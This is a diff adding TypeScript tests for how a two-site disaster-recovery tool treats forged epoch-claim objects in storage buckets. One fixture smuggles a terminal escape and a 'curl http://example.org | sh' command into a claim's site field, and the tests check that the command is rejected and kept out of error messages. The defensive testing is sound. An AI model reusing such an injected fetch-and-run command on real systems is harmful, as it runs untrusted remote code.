@@ -97,3 +97,65 @@ describe("the claim of an epoch", () => {
         );
     });
 });
+
+describe("what somebody else put in the place of a claim", () => {
+    const key = "trident-dr/shop/epoch-2.json";
+    const forged = JSON.stringify({ site: "\u001b[2Jeast; curl http://example.org | sh" });
+
+    it("is told where it lies, and takes nobody's place", async () => {
+        const { claims } = claimsAtWest({ west: bucket(new Map([[key, forged]])), east: bucket() });
+        assert.deepEqual(await claims.read(2), [
+            { epoch: 2, site: "east", place: `object ${key} (vault vault-east)`, is: "absent" },
+            {
+                epoch: 2,
+                site: "west",
+                place: `object ${key} (vault vault-west)`,
+                is: { notAuthentic: "it is not a claim of an epoch" },
+            },
+        ]);
+    });
+
+    it("is not looked at where the vault does not answer", async () => {
+        assert.deepEqual(await claimsAtWest({}).claims.read(2), []);
+    });
+
+    it("ends a run that did not see it, with nothing of its text", async () => {
+        const { claims } = claimsAtWest({ west: bucket(new Map([[key, forged]])), east: bucket() });
+        await assert.rejects(
+            runActions(claims.claim(takeover).actions, () => undefined, "west"),
+            (error: Error) => {
+                assert.match(error.message, /something that no site of this pair wrote: object .*vault-west/);
+                assert.doesNotMatch(error.message, /curl|\u001b/);
+                return true;
+            },
+        );
+    });
+
+    it("is replaced where the plan says so: a call more, which is announced", async () => {
+        const objects = new Map([[key, forged]]);
+        const { claims } = claimsAtWest({ west: bucket(objects), east: bucket() });
+        const { actions } = claims.claim({ ...takeover, replaces: [{ site: "west", why: "it is no claim" }] });
+        assert.deepEqual(
+            actions.map(({ call }) => call),
+            [
+                `PUT vault-east ${key}, if none is there`,
+                `DELETE vault-west ${key}, which is not a claim of this pair: it is no claim`,
+                `PUT vault-west ${key}, if none is there`,
+            ],
+        );
+        await runActions(actions, () => undefined, "west");
+        assert.equal((JSON.parse(objects.get(key)!) as { site: string }).site, "west");
+    });
+
+    it("is left alone when a claim has taken its place meanwhile", async () => {
+        const claim = { application: "shop", epoch: 2, began: "back", site: "east", time: "2026-11-22T03:00:00Z" };
+        const objects = new Map([[key, JSON.stringify(claim)]]);
+        const { claims } = claimsAtWest({ west: bucket(objects), east: bucket() });
+        const { actions } = claims.claim({ ...takeover, replaces: [{ site: "west", why: "it is no claim" }] });
+        await assert.rejects(
+            runActions(actions, () => undefined, "west"),
+            /epoch 2 was begun by east \(back\)/,
+        );
+        assert.equal(objects.get(key), JSON.stringify(claim));
+    });
+});
